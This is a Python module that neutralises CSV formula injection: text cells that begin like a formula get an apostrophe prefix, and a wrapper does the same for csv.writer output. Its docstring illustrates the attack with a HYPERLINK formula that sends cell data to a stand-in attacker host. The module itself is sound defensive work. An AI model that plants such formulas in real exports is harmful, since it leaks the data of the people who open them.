"""CSV cells that a spreadsheet will not run as formulas: the one rule every export uses.

Excel, LibreOffice and Google Sheets evaluate a cell that starts with ``=``, ``+``, ``-``
or ``@`` (and some a tab or carriage return before them) as a formula, so a comment such
as ``=HYPERLINK("http://evil.example/?"&A1)`` in an export would run when opened (CSV
injection). Text cells that start so get a leading apostrophe, which the spreadsheet shows
as text and hides; numbers are written as they are (``-12.5`` stays a number).

>>> safe_cell("=1+2"), safe_cell("-x"), safe_cell(-3), safe_cell("fine")
("'=1+2", "'-x", -3, 'fine')
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import IO, Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    """``value``, with an apostrophe in front when it is text that starts like a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def safe_row(row: Iterable[Any]) -> list[Any]:
    return [safe_cell(value) for value in row]


class SafeWriter:
    """``csv.writer`` whose rows go through :func:`safe_cell`."""

    def __init__(self, stream: IO[str], **options: Any) -> None:
        self._writer = csv.writer(stream, **options)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow(safe_row(row))

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(stream: IO[str], **options: Any) -> SafeWriter:
    """A CSV writer for exports people open in a spreadsheet (options as ``csv.writer``)."""
    return SafeWriter(stream, **options)
